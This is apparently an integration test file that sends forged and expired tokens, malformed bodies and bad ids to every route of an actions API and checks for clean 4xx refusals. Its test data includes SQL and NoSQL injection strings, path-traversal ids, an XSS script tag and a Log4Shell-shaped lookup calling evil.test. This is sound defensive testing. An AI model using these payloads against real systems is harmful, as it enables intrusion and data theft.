/**
 * The bad-input matrix: every route of the management, operator and trigger APIs × every kind of
 * bad input a caller can send — missing, forged, malformed, expired and under-scoped tokens;
 * malformed JSON, a wrong content type, a huge body, wrong types; unknown, traversal-shaped,
 * injection-shaped, overlong and other tenants' ids; unknown triggers; unknown query parameters
 * and wrong query types; a wrong method. Every case must get a 4xx in Auth0's error body
 * `{statusCode, error, message, errorCode}` with a message that names the problem, never a 5xx,
 * and the whole matrix must leave the table exactly as it found it.
 *
 * The routes come from the route tables themselves: a new route without an entry in ROUTES fails
 * the first test, so the matrix grows with the API. Injection-shaped names that are valid are
 * data: they round-trip unchanged and can be looked up. The front's own refusals (a body over
 * 10 MB, oversized headers, a malformed escape) are checked once.
 */
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import { ulid } from 'ulid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dispatcherRoutes } from '../../../functions/dispatcher/routes.ts';
import { managementRoutes } from '../../../functions/management-api/routes.ts';
import { sampleEvent } from '../../../shared/testing/index.ts';
import { bind, deployedAction } from '../../support/actions.ts';
import { startTestHookchain, type TestHookchain } from '../../support/hookchain.ts';

let hc: TestHookchain;

/** Ids that exist, in the caller's tenant (`dev`) and in another one (`globex`). */
interface Fixtures {
  actionId: string;
  versionId: string;
  moduleId: string;
  moduleVersionId: string;
  tokenId: string;
  /** A published catalog integration (the catalog is shared: no other tenant's copy). */
  integrationId: string;
  other: {
    token: string;
    actionId: string;
    versionId: string;
    moduleId: string;
    moduleVersionId: string;
    executionId: string;
    tokenId: string;
  };
  token: string;
  operatorToken: string;
  /** Tokens the auth kinds send. */
  tokens: { expired: string; readLogsOnly: string; readActionsOnly: string };
}
let f: Fixtures;

type Reply = { status: number; headers: Headers; body: Record<string, unknown> };

async function send(
  method: string,
  path: string,
  options: { body?: string; type?: string; authorization?: string | null } = {},
): Promise<Reply> {
  const headers: Record<string, string> = {};
  const authorization = options.authorization === undefined ? `Bearer ${hc.token}` : options.authorization;
  if (authorization !== null) headers.authorization = authorization;
  if (options.type) headers['content-type'] = options.type;
  const response = await fetch(`${hc.url}${path}`, { method, headers, body: options.body });
  const text = await response.text();
  let body: Record<string, unknown>;
  try {
    body = text ? JSON.parse(text) : {};
  } catch {
    body = { unparsable: text };
  }
  return { status: response.status, headers: response.headers, body };
}

async function createModule(name: string, token = hc.token) {
  const created = await hc.api<{ id: string }>(
    'POST',
    '/api/v2/actions/modules',
    { name, code: 'exports.x = 1;' },
    token,
  );
  if (created.status !== 201) throw new Error(`module: ${created.status} ${JSON.stringify(created.body)}`);
  const published = await hc.api<{ id: string }>(
    'POST',
    `/api/v2/actions/modules/${created.body.id}/versions`,
    undefined,
    token,
  );
  if (published.status !== 201) throw new Error(`publish: ${JSON.stringify(published.body)}`);
  return { moduleId: created.body.id, moduleVersionId: published.body.id };
}

async function issue(tenant: string, body: Record<string, unknown>): Promise<{ token: string; id: string }> {
  const reply = await hc.api<{ token: string; id: string }>(
    'POST',
    `/api/v2/hookchain/tenants/${tenant}/tokens`,
    body,
    hc.operatorToken,
  );
  if (reply.status !== 201) throw new Error(`token: ${reply.status} ${JSON.stringify(reply.body)}`);
  return reply.body;
}

const NOOP = 'exports.onExecutePostLogin = async () => {};';

beforeAll(async () => {
  hc = await startTestHookchain();
  await hc.api('POST', '/api/v2/hookchain/tenants', { id: 'globex' }, hc.operatorToken);
  const globex = await issue('globex', { name: 'admin' });
  const expiring = await issue('dev', { name: 'short-lived', expires_in: 1 });
  const [mine, theirs, myModule, theirModule, readLogsOnly, readActionsOnly] = await Promise.all([
    deployedAction(hc, { name: 'matrix-fixture', code: NOOP }),
    deployedAction(hc, { name: 'globex-action', code: NOOP }, globex.token),
    createModule('matrix-module'),
    createModule('globex-module', globex.token),
    issue('dev', { name: 'logs-only', scopes: ['read:logs'] }),
    issue('dev', { name: 'actions-only', scopes: ['read:actions'] }),
  ]);
  await bind(hc, 'post-login', ['globex-action'], globex.token);
  // The integration catalog, where this Hookchain serves it.
  const published = ALL_ROUTES.includes(`POST ${OPS}/integrations`)
    ? await hc.api<{ id: string }>(
        'POST',
        `${OPS}/integrations`,
        { name: 'matrix-integration', supported_triggers: [{ id: 'post-login', version: 'v3' }], code: NOOP },
        hc.operatorToken,
      )
    : { status: 201, body: { id: 'none' } };
  if (published.status !== 201) throw new Error(`integration: ${JSON.stringify(published.body)}`);
  const run = await hc.api<{ execution_id: string }>(
    'POST',
    '/api/v2/actions/triggers/post-login/execute',
    { event: sampleEvent('post-login') },
    globex.token,
  );
  f = {
    token: hc.token,
    operatorToken: hc.operatorToken,
    actionId: mine.id,
    versionId: (mine.deployed_version as { id: string }).id,
    ...myModule,
    tokenId: readLogsOnly.id,
    integrationId: published.body.id,
    other: {
      token: globex.token,
      actionId: theirs.id,
      versionId: (theirs.deployed_version as { id: string }).id,
      ...theirModule,
      executionId: run.body.execution_id,
      tokenId: globex.id,
    },
    tokens: {
      expired: expiring.token,
      readLogsOnly: readLogsOnly.token,
      readActionsOnly: readActionsOnly.token,
    },
  };
  // The short-lived token has expired once it is refused as such (one second, plus the clock).
  await hc.until(
    'the short-lived token to expire',
    async () => {
      const reply = await send('GET', '/api/v2/actions/actions', {
        authorization: `Bearer ${expiring.token}`,
      });
      return reply.status === 401 ? true : undefined;
    },
    10_000,
  );
}, 120_000);
afterAll(async () => {
  await hc?.stop();
});

// ---------------------------------------------------------------------------------------------
// The route table: per route, what a request needs to reach validation, and what is wrong with it.

type Params = Record<string, string>;

interface RouteCases {
  /** The scope the route requires ('operator' for operator routes). */
  scope: string;
  /** Path parameters that exist in the caller's tenant. */
  params?: (f: Fixtures) => Params;
  /** Another tenant's ids for the same parameters: must answer 404 as if they did not exist. */
  foreign?: (f: Fixtures) => Params;
  /** A body of the right shape, sent with the id cases so the id is the only problem. */
  validBody?: (f: Fixtures) => unknown;
  /** The route validates a JSON body: non-objects and these are refused, naming the field. */
  wrongBodies?: Array<[body: unknown, mentions: string]>;
  /** The route validates its query: unknown parameters and these are refused, naming them. */
  wrongQueries?: Array<[query: string, mentions: string]>;
}

const A = '/api/v2/actions';
const OPS = '/api/v2/hookchain';
const action = (f: Fixtures) => ({ id: f.actionId });
const foreignAction = (f: Fixtures) => ({ id: f.other.actionId });
const module_ = (f: Fixtures) => ({ id: f.moduleId });
const foreignModule = (f: Fixtures) => ({ id: f.other.moduleId });
const trigger = () => ({ triggerId: 'post-login' });
const paging: Array<[string, string]> = [
  ['per_page=abc', 'per_page'],
  ['page=-1', 'page'],
];

const ROUTES: Record<string, RouteCases> = {
  [`GET ${A}/actions`]: {
    scope: 'read:actions',
    wrongQueries: [
      ['per_page=abc', 'per_page'],
      ['triggerId=post-lunch', 'triggerId'],
      ['deployed=maybe', 'deployed'],
    ],
  },
  [`POST ${A}/actions`]: {
    scope: 'create:actions',
    wrongBodies: [
      [{ name: 42, supported_triggers: [{ id: 'post-login', version: 'v3' }] }, 'name'],
      [{ name: 'x', supported_triggers: 'post-login' }, 'supported_triggers'],
      [{ name: 'x', supported_triggers: [{ id: 'post-lunch', version: 'v3' }] }, 'trigger id must be one of'],
      [
        { name: 'nul\u0000byte', supported_triggers: [{ id: 'post-login', version: 'v3' }] },
        'control characters',
      ],
      [
        { name: 'x'.repeat(129), supported_triggers: [{ id: 'post-login', version: 'v3' }] },
        'name must be at most',
      ],
      [
        {
          name: 'x',
          supported_triggers: [{ id: 'post-login', version: 'v3' }],
          modules: [{ module_id: 'm'.repeat(300), module_version_id: 'v' }],
        },
        'modules',
      ],
    ],
  },
  [`GET ${A}/actions/{id}`]: { scope: 'read:actions', params: action, foreign: foreignAction },
  [`PATCH ${A}/actions/{id}`]: {
    scope: 'update:actions',
    params: action,
    foreign: foreignAction,
    validBody: () => ({}),
    wrongBodies: [
      [{ code: 42 }, 'code'],
      [{ secrets: 'TOKEN=1' }, 'secrets'],
      [{ runtime: 'node99' }, 'runtime'],
      [{ supported_triggers: [{ id: 'post-lunch', version: 'v3' }] }, 'trigger id must be one of'],
      [{ name: '' }, 'name must not be empty'],
    ],
  },
  [`DELETE ${A}/actions/{id}`]: {
    scope: 'delete:actions',
    params: action,
    foreign: foreignAction,
    wrongQueries: [['force=maybe', 'force']],
  },
  [`POST ${A}/actions/{id}/deploy`]: { scope: 'update:actions', params: action, foreign: foreignAction },
  [`POST ${A}/actions/{id}/test`]: {
    scope: 'update:actions',
    params: action,
    foreign: foreignAction,
    validBody: () => ({ payload: sampleEvent('post-login') }),
    wrongBodies: [
      [{ payload: 'event' }, 'payload'],
      [{}, 'payload'],
    ],
  },
  [`GET ${A}/actions/{id}/versions`]: {
    scope: 'read:actions',
    params: action,
    foreign: foreignAction,
    wrongQueries: paging,
  },
  [`GET ${A}/actions/{id}/versions/{versionId}`]: {
    scope: 'read:actions',
    params: (f) => ({ id: f.actionId, versionId: f.versionId }),
    foreign: (f) => ({ id: f.other.actionId, versionId: f.other.versionId }),
  },
  [`POST ${A}/actions/{id}/versions/{versionId}/deploy`]: {
    scope: 'update:actions',
    params: (f) => ({ id: f.actionId, versionId: f.versionId }),
    foreign: (f) => ({ id: f.other.actionId, versionId: f.other.versionId }),
    validBody: () => ({}),
    wrongBodies: [[{ update_draft: 'yes' }, 'update_draft']],
  },
  [`GET ${A}/triggers`]: { scope: 'read:actions' },
  [`GET ${A}/triggers/{triggerId}/bindings`]: {
    scope: 'read:actions',
    params: trigger,
    wrongQueries: [['per_page=1000', 'per_page']],
  },
  [`PATCH ${A}/triggers/{triggerId}/bindings`]: {
    scope: 'update:actions',
    params: trigger,
    validBody: () => ({ bindings: [] }),
    wrongBodies: [
      [{ bindings: 'matrix-fixture' }, 'bindings'],
      [{}, 'bindings'],
      [{ bindings: [{ ref: { type: 'action_key', value: 'x' } }] }, 'ref.type'],
      [{ bindings: [{ ref: { type: 'action_id', value: 'x'.repeat(300) } }] }, 'ref.value'],
      [
        { bindings: [{ ref: { type: 'action_name', value: 'x' }, secrets: [{ name: 'S', value: 'v' }] }] },
        'secrets',
      ],
    ],
  },
  [`GET ${A}/executions/{id}`]: {
    scope: 'read:actions',
    params: () => ({ id: ulid() }),
    foreign: (f) => ({ id: f.other.executionId }),
  },
  [`GET ${A}/logs`]: {
    scope: 'read:logs',
    wrongQueries: [
      ['since=yesterday', 'since'],
      ['limit=0', 'limit'],
      [`action=${'x'.repeat(300)}`, 'action'],
    ],
  },
  [`GET ${A}/modules`]: { scope: 'read:actions', wrongQueries: paging },
  [`POST ${A}/modules`]: {
    scope: 'create:actions',
    wrongBodies: [
      [{ name: 42, code: '' }, 'name'],
      [{ name: '../evil', code: '' }, 'name may contain'],
      [{ name: 'ok' }, 'code'],
    ],
  },
  [`GET ${A}/modules/{id}`]: { scope: 'read:actions', params: module_, foreign: foreignModule },
  [`PATCH ${A}/modules/{id}`]: {
    scope: 'update:actions',
    params: module_,
    foreign: foreignModule,
    validBody: () => ({}),
    wrongBodies: [
      [{ code: 42 }, 'code'],
      [{ dependencies: [{ name: 'left-pad', version: '^1.0.0' }] }, 'exact version'],
    ],
  },
  [`DELETE ${A}/modules/{id}`]: { scope: 'delete:actions', params: module_, foreign: foreignModule },
  [`GET ${A}/modules/{id}/actions`]: {
    scope: 'read:actions',
    params: module_,
    foreign: foreignModule,
    wrongQueries: paging,
  },
  [`POST ${A}/modules/{id}/rollback`]: {
    scope: 'update:actions',
    params: module_,
    foreign: foreignModule,
    validBody: (f) => ({ module_version_id: f.moduleVersionId }),
    wrongBodies: [
      [{ module_version_id: 42 }, 'module_version_id'],
      [{}, 'module_version_id'],
    ],
  },
  [`GET ${A}/modules/{id}/versions`]: {
    scope: 'read:actions',
    params: module_,
    foreign: foreignModule,
    wrongQueries: paging,
  },
  [`POST ${A}/modules/{id}/versions`]: { scope: 'update:actions', params: module_, foreign: foreignModule },
  [`GET ${A}/modules/{id}/versions/{versionId}`]: {
    scope: 'read:actions',
    params: (f) => ({ id: f.moduleId, versionId: f.moduleVersionId }),
    foreign: (f) => ({ id: f.other.moduleId, versionId: f.other.moduleVersionId }),
  },
  [`GET ${OPS}/tenants`]: { scope: 'operator' },
  [`POST ${OPS}/tenants`]: {
    scope: 'operator',
    wrongBodies: [
      [{ id: 42 }, 'id'],
      [{ id: 'Bad Tenant!' }, 'Tenant ids'],
      [{ id: '../dev' }, 'Tenant ids'],
      [{ id: 'dev' }, 'already exists'],
    ],
  },
  [`GET ${OPS}/tenants/{tenantId}/tokens`]: { scope: 'operator', params: () => ({ tenantId: 'dev' }) },
  [`POST ${OPS}/tenants/{tenantId}/tokens`]: {
    scope: 'operator',
    params: () => ({ tenantId: 'dev' }),
    validBody: () => ({ name: 'never-issued' }),
    wrongBodies: [
      [{ name: 42 }, 'name'],
      [{ name: 'x', scopes: ['operator'] }, 'Unknown scopes: operator'],
      [{ name: 'x', expires_in: 0 }, 'expires_in'],
      [{ name: 'x', expires_in: 'soon' }, 'expires_in'],
    ],
  },
  [`POST ${OPS}/queues/triggers/redrive`]: { scope: 'operator' },
  [`DELETE ${OPS}/tenants/{tenantId}/tokens/{tokenId}`]: {
    scope: 'operator',
    params: (f) => ({ tenantId: 'dev', tokenId: f.tokenId }),
    // Another tenant's token under this tenant's path is not this tenant's.
    foreign: (f) => ({ tenantId: 'dev', tokenId: f.other.tokenId }),
  },
  [`GET ${OPS}/integrations`]: { scope: 'read:actions' },
  [`POST ${OPS}/integrations`]: {
    scope: 'operator',
    wrongBodies: [
      [
        { name: 'Not A Slug', supported_triggers: [{ id: 'post-login', version: 'v3' }], code: NOOP },
        'name must be',
      ],
      [
        { name: 'ok', supported_triggers: [{ id: 'post-login', version: 'v3' }], code: ' ' },
        'code must not be empty',
      ],
      [{ name: 'ok', supported_triggers: [{ id: 'post-lunch', version: 'v3' }], code: NOOP }, 'trigger id'],
    ],
  },
  [`GET ${OPS}/integrations/{id}`]: { scope: 'read:actions', params: (f) => ({ id: f.integrationId }) },
  [`GET ${OPS}/integrations/{id}/releases`]: {
    scope: 'read:actions',
    params: (f) => ({ id: f.integrationId }),
  },
  [`POST ${OPS}/integrations/{id}/install`]: {
    scope: 'create:actions',
    params: (f) => ({ id: f.integrationId }),
    validBody: () => ({}),
    wrongBodies: [
      [{ version: 'latest' }, 'version'],
      [{ secrets: { API_KEY: 5 } }, 'secrets'],
    ],
  },
  [`POST ${OPS}/actions/{id}/upgrade`]: {
    scope: 'update:actions',
    params: action,
    foreign: foreignAction,
    validBody: () => ({}),
    wrongBodies: [[{ version: 0 }, 'version']],
  },
  [`POST ${A}/triggers/{triggerId}/execute`]: {
    scope: 'execute:triggers',
    params: trigger,
    validBody: () => ({ event: sampleEvent('post-login') }),
    wrongBodies: [
      [{ event: 'user logged in' }, 'event'],
      [{ event: { ...sampleEvent('post-login'), user: 5 } }, 'user'],
      [{ event: sampleEvent('post-login'), extra: 1 }, 'extra'],
    ],
  },
  [`POST ${A}/triggers/{triggerId}/continue`]: {
    scope: 'execute:triggers',
    params: trigger,
    validBody: () => ({ event: sampleEvent('post-login'), state: 'forged' }),
    wrongBodies: [
      [{ event: sampleEvent('post-login'), state: 5 }, 'state'],
      [{ event: sampleEvent('post-login') }, 'state'],
      [{ event: sampleEvent('post-login'), state: 'forged-state' }, 'invalid, expired'],
    ],
  },
};

const ALL_ROUTES = [...managementRoutes, ...dispatcherRoutes].map((r) => `${r.method} ${r.path}`);

// ---------------------------------------------------------------------------------------------
// Cases generated from the table.

interface Expected {
  status: number | number[];
  errorCode?: string;
  /** The message must contain this (case-insensitive). */
  mentions?: string;
}

interface Case {
  name: string;
  method: string;
  path: (f: Fixtures) => string;
  query?: string;
  body?: (f: Fixtures) => string;
  type?: string;
  authorization?: (f: Fixtures) => string | null;
  expect: Expected;
}

function fill(path: string, params: Params): string {
  return path.replace(/\{(\w+)\}/g, (_, name: string) => {
    const value = params[name];
    if (value === undefined) throw new Error(`no value for {${name}} in ${path}`);
    return encodeURIComponent(value);
  });
}

const paramNames = (path: string) => [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1] as string);

/** A value for every parameter: the spec's own, or anything (auth fails before it is read). */
function validParams(path: string, spec: RouteCases, fx: Fixtures): Params {
  const given = spec.params?.(fx) ?? {};
  return Object.fromEntries(paramNames(path).map((n) => [n, given[n] ?? 'anything']));
}

const hasBody = (method: string) => method === 'POST' || method === 'PATCH' || method === 'PUT';
const json = (value: unknown) => JSON.stringify(value);

const BAD_IDS: Array<[kind: string, value: string, expect: Expected]> = [
  ['an unknown id', randomUUID(), { status: 404 }],
  ['a path-traversal id', '../../hookchain/tenants', { status: [400, 404] }],
  ['an injection-shaped id', `' OR '1'='1`, { status: [400, 404] }],
  ['a NoSQL-operator-shaped id', '{"$ne":null}', { status: [400, 404] }],
  [
    'a 300-character id',
    'x'.repeat(300),
    { status: 400, errorCode: 'invalid_path', mentions: 'at most 256' },
  ],
];

function casesFor(key: string, spec: RouteCases): Case[] {
  const [method, path] = key.split(' ') as [string, string];
  const valid = (fx: Fixtures) => fill(path, validParams(path, spec, fx));
  const validBody = spec.validBody ?? (() => ({}));
  const bodyFor = hasBody(method) ? (fx: Fixtures) => json(validBody(fx)) : undefined;
  // Operator routes are reached with the operator's token, every other one with the tenant's.
  const own = (fx: Fixtures) => `Bearer ${spec.scope === 'operator' ? fx.operatorToken : fx.token}`;
  const base = {
    method,
    path: valid,
    authorization: own,
    ...(bodyFor ? { body: bodyFor, type: 'application/json' } : {}),
  };
  const denyScope = spec.scope === 'read:logs' ? 'readActionsOnly' : 'readLogsOnly';
  const cases: Case[] = [
    {
      ...base,
      name: 'no token',
      authorization: () => null,
      expect: { status: 401, errorCode: 'invalid_token', mentions: 'Authorization: Bearer' },
    },
    {
      ...base,
      name: 'a forged token',
      authorization: () => `Bearer hc_${'A'.repeat(43)}`,
      expect: { status: 401, errorCode: 'invalid_token', mentions: 'Invalid token' },
    },
    {
      ...base,
      name: 'a Basic credential',
      authorization: () => 'Basic ZGV2OmRldg==',
      expect: { status: 401, errorCode: 'invalid_token', mentions: 'Bearer' },
    },
    {
      ...base,
      name: 'an expired token',
      authorization: (fx) => `Bearer ${fx.tokens.expired}`,
      expect: { status: 401, errorCode: 'token_expired', mentions: 'Token expired' },
    },
    {
      ...base,
      name: `a token without ${spec.scope}`,
      authorization: (fx) => `Bearer ${fx.tokens[denyScope]}`,
      expect: { status: 403, errorCode: 'insufficient_scope', mentions: spec.scope },
    },
  ];
  if (hasBody(method)) {
    cases.push(
      {
        ...base,
        name: 'malformed JSON',
        body: () => '{"name": ',
        expect: { status: 400, errorCode: 'invalid_json', mentions: 'JSON' },
      },
      {
        ...base,
        name: 'a text/plain body',
        type: 'text/plain',
        expect: { status: 415, errorCode: 'unsupported_media_type', mentions: 'application/json' },
      },
      {
        ...base,
        name: 'a form-encoded body',
        body: () => 'name=x&code=y',
        type: 'application/x-www-form-urlencoded',
        expect: { status: 415, errorCode: 'unsupported_media_type', mentions: 'application/json' },
      },
      {
        ...base,
        name: 'a 1.5 MB body',
        body: () => json({ name: 'x'.repeat(1_500_000) }),
        expect: { status: 413, errorCode: 'payload_too_large', mentions: '1048576 bytes' },
      },
    );
  }
  if (spec.wrongBodies) {
    const nonObjects: Array<[unknown, string]> = [
      [[], 'body'],
      ['a string', 'body'],
      [42, 'body'],
    ];
    for (const [body, mentions] of [...spec.wrongBodies, ...nonObjects]) {
      cases.push({
        ...base,
        name: `body ${json(body).slice(0, 60)}`,
        body: () => json(body),
        expect: { status: [400, 409], mentions },
      });
    }
  }
  if (spec.wrongQueries) {
    for (const [query, mentions] of [
      ...spec.wrongQueries,
      ['include_totals=true', 'include_totals'],
    ] as const) {
      cases.push({
        ...base,
        name: `query ${query.slice(0, 40)}`,
        query,
        expect: { status: 400, errorCode: 'invalid_query_string', mentions },
      });
    }
  }
  for (const name of paramNames(path)) {
    if (name === 'triggerId') {
      cases.push({
        ...base,
        name: 'an unknown trigger',
        path: (fx) => fill(path, { ...validParams(path, spec, fx), triggerId: 'post-lunch' }),
        expect: { status: 404, errorCode: 'unknown_trigger', mentions: 'post-lunch' },
      });
    }
    for (const [kind, value, expected] of BAD_IDS) {
      cases.push({
        ...base,
        name: `${kind} as {${name}}`,
        path: (fx) => fill(path, { ...validParams(path, spec, fx), [name]: value }),
        expect: expected,
      });
    }
  }
  if (spec.foreign) {
    const foreign = spec.foreign;
    cases.push({
      ...base,
      name: 'another tenant’s ids',
      path: (fx) => fill(path, { ...validParams(path, spec, fx), ...foreign(fx) }),
      expect: { status: 404, mentions: 'does not exist' },
    });
  }
  return cases.map((c) => ({ ...c, name: `${key} · ${c.name}` }));
}

/** One method each path does not serve: 405 naming it. */
function wrongMethodCases(): Case[] {
  const methodsByPath = new Map<string, Set<string>>();
  for (const key of ALL_ROUTES) {
    const [method, path] = key.split(' ') as [string, string];
    methodsByPath.set(path, (methodsByPath.get(path) ?? new Set()).add(method));
  }
  return [...methodsByPath].map(([path, methods]) => {
    const method = ['PUT', 'PATCH', 'DELETE', 'POST', 'GET'].find((m) => !methods.has(m)) as string;
    const spec = ROUTES[`${[...methods][0]} ${path}`] ?? { scope: 'read:actions' };
    return {
      name: `${method} ${path} · a method it does not serve`,
      method,
      path: (fx: Fixtures) => fill(path, validParams(path, spec, fx)),
      expect: { status: 405, errorCode: 'method_not_allowed', mentions: method },
    };
  });
}

// Entries for routes this build does not serve (yet) generate nothing.
const CASES = [
  ...Object.entries(ROUTES)
    .filter(([key]) => ALL_ROUTES.includes(key))
    .flatMap(([key, spec]) => casesFor(key, spec)),
  ...wrongMethodCases(),
];

function expectRefusal(reply: Reply, expected: Expected, label: string): void {
  const context = `${label}: ${reply.status} ${JSON.stringify(reply.body).slice(0, 300)}`;
  const statuses = Array.isArray(expected.status) ? expected.status : [expected.status];
  expect(statuses, context).toContain(reply.status);
  expect(reply.body, context).toEqual({
    statusCode: reply.status,
    error: expect.any(String),
    message: expect.any(String),
    ...(reply.body.errorCode === undefined ? {} : { errorCode: expect.any(String) }),
  });
  expect((reply.body.message as string).length, context).toBeGreaterThan(8);
  if (expected.errorCode) expect(reply.body.errorCode, context).toBe(expected.errorCode);
  if (expected.mentions)
    expect((reply.body.message as string).toLowerCase(), context).toContain(expected.mentions.toLowerCase());
}

// ---------------------------------------------------------------------------------------------

/** Every item of the table, sorted: what a refused request must leave untouched. */
async function tableSnapshot(): Promise<string[]> {
  const client = new DynamoDBClient(hc.stack.clientConfig('dynamodb'));
  const items: string[] = [];
  let start: Record<string, unknown> | undefined;
  do {
    const page = await client.send(
      // biome-ignore lint/suspicious/noExplicitAny: the SDK's key type is AttributeValue maps.
      new ScanCommand({ TableName: hc.stack.resources.tableName, ExclusiveStartKey: start as any }),
    );
    for (const item of page.Items ?? []) items.push(JSON.stringify(item, Object.keys(item).sort()));
    start = page.LastEvaluatedKey;
  } while (start);
  client.destroy();
  return items.sort();
}

describe('the route table', () => {
  it('has bad-input cases for every route the APIs serve', () => {
    const missing = ALL_ROUTES.filter((key) => !(key in ROUTES));
    expect(missing, 'add these routes to ROUTES in test/integration/hardening/bad-input.test.ts').toEqual([]);
  });
});

describe('every route refuses every kind of bad input with a clear 4xx, and writes nothing', () => {
  let before: string[];
  beforeAll(async () => {
    before = await tableSnapshot();
  });

  describe.concurrent('the matrix', () => {
    it.each(CASES.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
      const reply = await send(c.method, `${c.path(f)}${c.query ? `?${c.query}` : ''}`, {
        ...(c.body ? { body: c.body(f) } : {}),
        ...(c.type ? { type: c.type } : {}),
        ...(c.authorization ? { authorization: c.authorization(f) } : {}),
      });
      expectRefusal(reply, c.expect, c.name);
    });
  });

  it('left every item of the table as it was', async () => {
    expect(CASES.length).toBeGreaterThan(300);
    expect(await tableSnapshot()).toEqual(before);
  });
});

describe('tokens expire', () => {
  it('issues a token with expires_in, shows when it expires, and accepts it until then', async () => {
    const issued = await hc.api<{ token: string; id: string; expires_at: string }>(
      'POST',
      `${OPS}/tenants/dev/tokens`,
      { name: 'hour', expires_in: 3600 },
      hc.operatorToken,
    );
    expect(issued.status).toBe(201);
    const expiresAt = Date.parse(issued.body.expires_at);
    expect(expiresAt - Date.now()).toBeGreaterThan(3500_000);
    expect((await hc.api('GET', `${A}/actions`, undefined, issued.body.token)).status).toBe(200);
    const listed = await hc.api<{ tokens: Array<{ id: string; expires_at?: string }> }>(
      'GET',
      `${OPS}/tenants/dev/tokens`,
      undefined,
      hc.operatorToken,
    );
    expect(listed.body.tokens.find((t) => t.id === issued.body.id)?.expires_at).toBe(issued.body.expires_at);
  });

  it('answers an unknown tenant’s token list with 404, like issuing and revoking', async () => {
    const reply = await send('GET', `${OPS}/tenants/no-such-tenant/tokens`, {
      authorization: `Bearer ${hc.operatorToken}`,
    });
    expectRefusal(reply, { status: 404, mentions: 'tenant does not exist' }, 'unknown tenant');
  });
});

describe('injection-shaped names are data', () => {
  const NAMES = [
    `'; DROP TABLE actions; --`,
    `" OR "1"="1`,
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-shaped name, literally.
    '${jndi:ldap://evil.test/a}',
    '{{7*7}} #{7*7}',
    '{"$gt": ""}',
    '../../etc/passwd',
    'ACTION#dev#x', // shaped like the store's own keys
    'émoji 🚀 and 中文',
  ];

  it.each(NAMES)('an action named %j round-trips unchanged and is found by name', async (name) => {
    const created = await hc.api<{ id: string; name: string }>('POST', `${A}/actions`, {
      name,
      supported_triggers: [{ id: 'post-login', version: 'v3' }],
      code: NOOP,
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.name).toBe(name);
    const read = await hc.api<{ name: string }>('GET', `${A}/actions/${created.body.id}`);
    expect(read.body.name).toBe(name);
    const found = await hc.api<{ actions: Array<{ id: string }> }>(
      'GET',
      `${A}/actions?actionName=${encodeURIComponent(name)}`,
    );
    expect(found.body.actions.map((a) => a.id)).toEqual([created.body.id]);
    // Refusing to bind an undeployed action by that name proves the name resolved, nothing more.
    const bound = await hc.api('PATCH', `${A}/triggers/post-login/bindings`, {
      bindings: [{ ref: { type: 'action_name', value: name } }],
    });
    expectRefusal(
      { ...bound, headers: new Headers() } as Reply,
      { status: 400, mentions: 'deployed' },
      'bind undeployed',
    );
  });

  it('a tenant id shaped like an injection is refused by its pattern', async () => {
    for (const id of [`x'; DROP`, 'TENANT#dev', '../dev', 'dev\u0000']) {
      const reply = await send('POST', `${OPS}/tenants`, {
        body: json({ id }),
        type: 'application/json',
        authorization: `Bearer ${hc.operatorToken}`,
      });
      expectRefusal(reply, { status: 400, mentions: 'Tenant ids' }, id);
    }
  });
});

describe('the API front refuses what never reaches a handler, in the same shape', () => {
  it('a body over API Gateway’s 10 MB: 413', async () => {
    const reply = await send('POST', `${A}/actions`, {
      body: json({ name: 'x'.repeat(11 * 1024 * 1024) }),
      type: 'application/json',
    });
    expectRefusal(reply, { status: 413, errorCode: 'payload_too_large' }, '11 MB');
  });

  it('a 20 kB bearer token: 431, naming the header', async () => {
    const reply = await send('GET', `${A}/actions`, { authorization: `Bearer ${'x'.repeat(20_000)}` });
    expectRefusal(reply, { status: 431, mentions: 'Authorization' }, 'huge header');
  });

  it('a malformed escape in the path: 400', async () => {
    const reply = await send('GET', `${A}/actions/%E0%A4%A`);
    expectRefusal(reply, { status: 400, errorCode: 'invalid_path', mentions: 'encoding' }, 'bad escape');
  });

  it('an unknown path under the API: 404', async () => {
    const reply = await send('GET', `${A}/no-such-thing`);
    expectRefusal(reply, { status: 404, errorCode: 'not_found' }, 'unknown path');
  });

  it('a raw ../ in the path is normalised and cannot reach operator routes with a tenant token', async () => {
    const status = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const url = new URL(hc.url);
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          method: 'GET',
          path: `${url.pathname.replace(/\/$/, '')}${A}/actions/../../hookchain/tenants`,
          headers: { authorization: `Bearer ${hc.token}` },
        },
        (res) => {
          let body = '';
          res.on('data', (chunk) => {
            body += chunk;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      req.on('error', reject);
      req.end();
    });
    expect(status.status).toBe(403);
    expect(JSON.parse(status.body)).toMatchObject({ statusCode: 403, errorCode: 'insufficient_scope' });
  });
});
